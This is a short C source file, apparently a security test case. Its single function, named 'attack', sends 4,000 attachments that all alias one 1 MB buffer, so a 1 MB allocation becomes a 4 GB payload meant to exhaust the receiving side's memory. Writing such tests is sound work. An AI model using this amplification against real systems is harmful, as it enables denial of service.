// Sends 4,000 attachments of 1 MB each, which are all the same bytes: 4 GB out of 1 MB.
#include "kit.h"

response attack(void) {
    static guest_list_u8_t list[4000];
    static uint8_t megabyte[1000000];
    for (size_t i = 0; i < 4000; i++) {
        list[i] = (guest_list_u8_t){megabyte, sizeof megabyte};
    }
    return send((payload){STRING("[]"), LIST(list)});
}
